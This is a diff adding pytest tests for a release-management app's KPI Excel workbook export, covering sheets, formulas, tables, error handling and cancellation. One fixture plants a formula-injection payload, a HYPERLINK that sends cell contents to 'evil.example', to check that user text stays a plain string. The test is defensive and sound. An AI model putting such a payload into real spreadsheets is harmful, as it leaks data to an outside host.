@@ -1,0 +1,209 @@
+"""The KPI workbook, read back with openpyxl as a stakeholder's spreadsheet would see it."""
+
+from __future__ import annotations
+
+import io
+import os
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.worksheet.formula import ArrayFormula
+from test_kpis import build_kpi_plan
+
+from relman_desktop.exports.kpi_workbook import put_text, write_kpi_workbook
+from relman_desktop.exports.safe_write import ExportCancelled, write_atomically
+from relman_desktop.services import kpis
+from relman_desktop.services.base import ServiceError
+
+KPI_SHEETS = [
+    "Release success",
+    "Deployment frequency",
+    "Change failure rate",
+    "MTTR",
+    "Lead time",
+    "On-time delivery",
+    "Approval cycle",
+]
+
+
+@pytest.fixture
+def workbook(ctx, tmp_path):
+    from relman_desktop.models.entities import Change
+
+    build_kpi_plan(ctx.plan)
+    with ctx.plan.write() as s:
+        s.query(Change).filter_by(
+            key="CHG-1"
+        ).one().title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        s.query(Change).filter_by(key="CHG-2").one().title = "@SUM(1+1)\x07"
+    target = tmp_path / "kpis.xlsx"
+    write_kpi_workbook(kpis.collect(ctx, by="month"), target)
+    return load_workbook(target)
+
+
+def test_sheets_in_reading_order(workbook):
+    assert workbook.sheetnames == [
+        "Summary",
+        *KPI_SHEETS,
+        "Deployments",
+        "Releases",
+        "Changes",
+        "Approvals",
+        "Data quality",
+        "DORA tiers",
+    ]
+    assert workbook.active.title == "Summary"
+
+
+def test_summary_values_are_formulas_with_tiers(workbook):
+    ws = workbook["Summary"]
+    rows = {ws.cell(r, 1).value: r for r in range(2, 13)}
+    success = ws.cell(rows["Release success rate"], 2)
+    assert success.data_type == "f" and "Rel_Succeeded" in success.value
+    assert success.number_format == "0.0%"
+    median = ws.cell(rows["Lead time for changes, median"], 2)
+    assert median.value.startswith("=IFERROR(MEDIAN(Chg_LeadHours)")
+    assert median.number_format == '0.0 "h"'
+    assert ws.cell(rows["Lead time for changes, median"], 3).value == "high"
+    assert ws.cell(rows["Change failure rate"], 3).value == "low"
+    assert ws.cell(rows["Deployment frequency (DORA bucket)"], 2).value == "weekly"
+    assert ws.cell(rows["Release success rate"], 4).value == "2026-10-01 – 2026-11-24"
+    assert ws.cell(rows["Data-quality gaps"], 2).value == 4
+    assert ws.freeze_panes == "B2"
+
+
+def test_each_kpi_sheet_has_its_series_as_formulas_and_a_chart(workbook):
+    for title in KPI_SHEETS:
+        ws = workbook[title]
+        assert [ws.cell(r, 1).value for r in (2, 3)] == ["2026-10", "2026-11"], title
+        assert ws.cell(2, 4).data_type == "f", title
+        assert len(ws._charts) == 1, title
+        assert ws.freeze_panes == "B2"
+    mttr = workbook["MTTR"]
+    median = mttr["F2"].value
+    assert isinstance(median, ArrayFormula) and "MEDIAN(IF(" in median.text
+    assert mttr["F2"].number_format == '0.0 "h"'
+    assert workbook["Release success"]["F2"].number_format == "0.0%"
+    assert "SUMPRODUCT" in workbook["Deployment frequency"]["D2"].value
+
+
+def test_raw_sheets_are_excel_tables_with_frozen_headers_and_formats(workbook):
+    expected = {
+        "Deployments": ("tblDeployments", "A1:N8"),
+        "Releases": ("tblReleases", "A1:J6"),
+        "Changes": ("tblChanges", "A1:L7"),
+        "Approvals": ("tblApprovals", "A1:I5"),
+    }
+    for sheet, (name, ref) in expected.items():
+        ws = workbook[sheet]
+        assert list(ws.tables) == [name]
+        assert ws.tables[name].ref == ref
+        assert ws.freeze_panes == "A2"
+        assert ws.column_dimensions["A"].width >= 10
+    dep = workbook["Deployments"]
+    assert dep["F2"].number_format == "yyyy-mm-dd hh:mm"
+    assert dep["N3"].value.startswith("=IF(AND(M3=1")
+    assert dep["N3"].number_format == '0.0 "h"'
+    assert "Dep_Period" in workbook.defined_names
+    assert workbook.defined_names["Dep_Period"].attr_text == "'Deployments'!$L$2:$L$8"
+
+
+def test_user_text_never_becomes_a_formula(workbook):
+    changes = workbook["Changes"]
+    titles = {changes.cell(r, 1).value: changes.cell(r, 2) for r in range(2, changes.max_row + 1)}
+    evil = titles["CHG-1"]
+    assert evil.data_type == "s"
+    assert evil.value == '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert evil.quotePrefix
+    at = titles["CHG-2"]
+    assert at.data_type == "s" and at.value == "@SUM(1+1)"  # the bell character is dropped
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\r=1", "plain"])
+def test_put_text_keeps_every_trigger_as_a_string(text, tmp_path):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    put_text(wb.active, 1, 1, text)
+    wb.save(tmp_path / "t.xlsx")
+    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
+    assert cell.data_type == "s"
+    assert cell.value == text
+
+
+def test_empty_plan_gives_a_workbook_without_errors(ctx, tmp_path):
+    target = tmp_path / "empty.xlsx"
+    write_kpi_workbook(kpis.collect(ctx), target)
+    wb = load_workbook(target)
+    assert wb["Deployments"].tables["tblDeployments"].ref == "A1:N2"
+    assert wb["Summary"]["B2"].data_type == "f"
+    assert wb["MTTR"].max_row == 1  # no periods, headers only
+
+
+def test_missing_folder_gives_a_clear_message_and_leaves_nothing(ctx, tmp_path):
+    target = tmp_path / "nowhere" / "kpis.xlsx"
+    with pytest.raises(
+        ServiceError, match=r"cannot write kpis\.xlsx: the folder .*nowhere does not exist"
+    ):
+        write_kpi_workbook(kpis.collect(ctx), target)
+    assert not target.parent.exists()
+
+
+def test_locked_target_gives_a_clear_message_and_keeps_the_old_file(tmp_path, monkeypatch):
+    target = tmp_path / "kpis.xlsx"  # no plan in this test: the folder holds only the export
+    target.write_bytes(b"old")
+
+    def locked(src, dst):
+        raise PermissionError(13, "Permission denied")
+
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(ServiceError, match="open in another program"):
+        write_atomically(target, lambda tmp: tmp.write_bytes(b"new"))
+    assert target.read_bytes() == b"old"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["kpis.xlsx"]
+
+
+def test_cancel_leaves_no_file(ctx, tmp_path):
+    folder = tmp_path / "out"
+    folder.mkdir()
+    target = folder / "kpis.xlsx"
+    with pytest.raises(ExportCancelled):
+        write_kpi_workbook(kpis.collect(ctx), target, cancelled=lambda: True)
+    assert list(folder.iterdir()) == []
+    calls = iter([False, True])  # cancelled while the writer ran
+    with pytest.raises(ExportCancelled):
+        write_atomically(target, lambda tmp: tmp.write_bytes(b"x"), cancelled=lambda: next(calls))
+    assert list(folder.iterdir()) == []
+
+
+def test_cli_export_kpis(ctx, plan_path, tmp_path):
+    from relman_desktop.cli import main
+
+    build_kpi_plan(ctx.plan)
+    out, err = io.StringIO(), io.StringIO()
+    target = tmp_path / "portal.xlsx"
+    code = main(
+        [
+            "--plan",
+            str(plan_path),
+            "export",
+            "kpis",
+            str(target),
+            "--application",
+            "portal",
+            "--by",
+            "week",
+        ],
+        out=out,
+        err=err,
+    )
+    assert code == 0, err.getvalue()
+    wb = load_workbook(target)
+    assert wb["Deployments"].max_row == 5  # the four portal deployments
+    assert wb["MTTR"]["A2"].value == "2026-W45"
+    code = main(
+        ["--plan", str(plan_path), "export", "kpis", str(tmp_path / "no" / "x.xlsx")],
+        out=out,
+        err=err,
+    )
+    assert code == 2 and "does not exist" in err.getvalue()
